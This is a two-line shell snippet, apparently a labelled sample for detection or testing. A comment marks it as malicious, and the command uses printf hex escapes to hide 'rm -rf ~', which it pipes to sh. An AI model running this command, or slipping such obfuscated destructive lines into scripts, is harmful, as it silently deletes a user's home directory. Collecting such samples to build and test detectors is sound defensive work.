# Malicious, obfuscated: printf builds "rm -rf ~" from hex escapes and pipes it to sh.
printf '\x72\x6d\x20\x2d\x72\x66\x20\x7e' | sh
